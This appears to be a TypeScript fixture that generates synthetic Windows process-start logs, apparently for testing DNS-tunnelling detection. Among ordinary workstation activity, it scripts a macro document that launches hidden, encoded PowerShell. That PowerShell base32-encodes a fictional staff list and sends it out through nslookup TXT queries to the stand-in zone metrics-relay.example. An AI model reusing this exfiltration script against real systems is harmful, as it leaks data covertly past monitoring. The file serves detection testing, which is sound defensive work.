import { Machine, PROGRAMS, type Running, type Start } from './machine'
import { Random } from './random'

const MINUTE = 60_000
const FROM = Date.UTC(2026, 10, 21, 17, 40)
const TO = Date.UTC(2026, 10, 21, 18, 20)
const CHANNEL_FROM = Date.UTC(2026, 10, 21, 17, 52, 10)
const CHANNEL_STARTS = 24

/** Under a top-level name that RFC 2606 reserves: nobody can register it. */
export const ZONE = 'metrics-relay.example'

const STAFF = [
  'Amara Okoro;accounts payable;+44 20 7946 0101',
  'Bela Fischer;treasury;+44 20 7946 0102',
  'Chen Wei;payroll;+44 20 7946 0103',
  'Dora Lindqvist;audit;+44 20 7946 0104',
  'Emil Novak;controlling;+44 20 7946 0105',
  'Farah Aziz;purchasing;+44 20 7946 0106',
  'Goran Petrov;tax;+44 20 7946 0107',
  'Hana Sato;insurance;+44 20 7946 0108',
  'Ines Moreau;reporting;+44 20 7946 0109',
  'Jonas Berg;cash desk;+44 20 7946 0110',
  'Kaya Demir;archive;+44 20 7946 0111',
  'Luis Ortega;front office;+44 20 7946 0112',
  'Mina Rossi;facilities;+44 20 7946 0113',
  'Nils Haugen;fleet;+44 20 7946 0114',
  'Olga Ivanova;legal;+44 20 7946 0115',
  'Pavel Horak;travel;+44 20 7946 0116',
  'Qiana Brooks;training;+44 20 7946 0117',
]
const PAYLOAD = `staff.csv\nname;team;phone\n${STAFF.join('\n')}\n`

const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567'

/** RFC 4648 base32, lower case, without padding. */
function base32(bytes: Uint8Array): string {
  const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, '0')).join('')
  const groups = bits.match(/.{1,5}/g) ?? []
  return groups.map((group) => BASE32.charAt(Number.parseInt(group.padEnd(5, '0'), 2))).join('')
}

/** The names that carry the payload: a counter, then a piece of it. */
export function channelNames(): readonly string[] {
  const bytes = new TextEncoder().encode(PAYLOAD)
  const cut = (index: number): number => Math.floor((index * bytes.length) / CHANNEL_STARTS)
  return Array.from({ length: CHANNEL_STARTS }, (_, index) => {
    const piece = bytes.slice(cut(index), cut(index + 1))
    return `${index.toString().padStart(2, '0')}-${base32(piece)}.${ZONE}`
  })
}

const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64')

const SCRIPT =
  `$i=0;Get-Content $env:TEMP\\c.txt|%{$n='{0:d2}-{1}.${ZONE}' -f $i++,$_;` +
  'nslookup -querytype=TXT $n;Start-Sleep -Seconds (Get-Random -Min 10 -Max 20)}'

/** A document opens PowerShell, and PowerShell sends the payload: one nslookup a piece. */
function channel(machine: Machine, random: Random): readonly Start[] {
  const document = `"${PROGRAMS.winword.image}" /n "C:\\Users\\mkeller\\Downloads\\Delivery note 4471.docm" /o ""`
  const word = machine.start(CHANNEL_FROM - 2 * MINUTE, PROGRAMS.winword, document, machine.explorer)
  const command = `"${PROGRAMS.powershell.image}" -NoProfile -WindowStyle Hidden -EncodedCommand ${encoded(SCRIPT)}`
  const shell = machine.start(CHANNEL_FROM - 4_000, PROGRAMS.powershell, command, word.process)
  let at = CHANNEL_FROM
  const lookups = channelNames().map((name) => {
    const start = machine.start(at, PROGRAMS.nslookup, `"${PROGRAMS.nslookup.image}" -querytype=TXT ${name}`, shell.process)
    at += random.between(12_000, 18_000)
    return start
  })
  return [word, shell, ...lookups]
}

const SERVICES = ['-k netsvcs -p -s BITS', '-k netsvcs -p -s wuauserv', '-k LocalService -p -s NPSMSvc', '-k wsappx -p -s AppXSvc']

/** What any workstation starts by itself. */
function ordinary(at: number, machine: Machine, random: Random): Start {
  const { services, explorer, chrome } = machine
  const renderer = `"${PROGRAMS.chrome.image}" --type=renderer --renderer-client-id=${random.between(12, 240)} --mojo-platform-channel-handle=${random.between(3_000, 9_000)} /prefetch:1`
  const choices: readonly (() => Start)[] = [
    () => machine.start(at, PROGRAMS.chrome, renderer, chrome),
    () => machine.start(at, PROGRAMS.chrome, renderer, chrome),
    () =>
      machine.start(at, PROGRAMS.svchost, `C:\\Windows\\system32\\svchost.exe ${random.pick(SERVICES)}`, services, 'NT AUTHORITY\\SYSTEM'),
    () => machine.start(at, PROGRAMS.runtimeBroker, 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', services),
    () => machine.start(at, PROGRAMS.taskhostw, 'taskhostw.exe Install $(Arg0)', services, 'NT AUTHORITY\\SYSTEM'),
    () =>
      machine.start(
        at,
        PROGRAMS.searchHost,
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21',
        services,
      ),
    () =>
      machine.start(
        at,
        PROGRAMS.explorer,
        'C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding',
        explorer,
      ),
  ]
  return random.pick(choices)()
}

function inShell(
  machine: Machine,
  openedAt: number,
  lines: readonly (readonly [seconds: number, file: 'ipconfig' | 'nslookup', rest: string])[],
): readonly Start[] {
  const shell = machine.start(openedAt, PROGRAMS.cmd, '"C:\\Windows\\system32\\cmd.exe"', machine.explorer)
  const started = lines.map(([seconds, file, rest]) =>
    machine.start(openedAt + seconds * 1_000, PROGRAMS[file], `${file} ${rest}`.trim(), shell.process),
  )
  return [shell, ...started]
}

/** A person at the help desk looks into mail that does not arrive: few starts, readable names. */
const helpDesk = (machine: Machine): readonly Start[] =>
  inShell(machine, FROM + 11 * MINUTE, [
    [9, 'ipconfig', '/all'],
    [31, 'nslookup', 'intranet.corp.example'],
    [58, 'nslookup', '-type=mx corp.example'],
    [83, 'nslookup', '-type=mx partner.example'],
    [140, 'nslookup', '-q=txt partner.example'],
    [171, 'nslookup', 'mail.partner.example 192.0.2.53'],
  ])

/** A logon script asks for the domain's controllers, as discovery scripts do: one query type, one readable name. */
function logonScript(machine: Machine): readonly Start[] {
  const at = FROM + 3 * MINUTE
  const script: Running = machine.spawn(
    at,
    PROGRAMS.cmd,
    'C:\\Windows\\system32\\cmd.exe /c \\\\corp.example\\NETLOGON\\logon.cmd',
    machine.user,
  )
  return [machine.start(at + 700, PROGRAMS.nslookup, 'nslookup -type=srv _ldap._tcp.dc._msdcs.corp.example', script)]
}

export interface Scenario {
  readonly background: readonly Start[]
  readonly channel: readonly Start[]
}

/** Forty minutes of six workstations on 2026-11-21; every call gives the same. */
export function scenario(): Scenario {
  const random = new Random(20_261_121)
  const bootedAt = Date.UTC(2026, 10, 21, 7, 2)
  const machine = (name: string, last: number, user: string) =>
    new Machine(name, `10.20.4.${last}`, `CORP\\${user}`, bootedAt + random.between(0, 90) * MINUTE, random)
  const victim = machine('FIN-PC07', 107, 'mkeller')
  const helper = machine('HLP-PC01', 21, 'tvarga')
  const others = [
    machine('FIN-PC03', 103, 'sduarte'),
    machine('HR-PC02', 62, 'lnyberg'),
    machine('ENG-PC11', 211, 'kosei'),
    machine('ENG-PC14', 214, 'rmalik'),
  ]
  const background: Start[] = [...helpDesk(helper), ...others.slice(0, 2).flatMap(logonScript)]
  for (const each of [victim, helper, ...others]) {
    for (let at = FROM + random.between(1_000, 60_000); at < TO; at += random.between(35_000, 125_000)) {
      background.push(ordinary(at + random.between(0, 999), each, random))
    }
  }
  return { background, channel: channel(victim, random) }
}
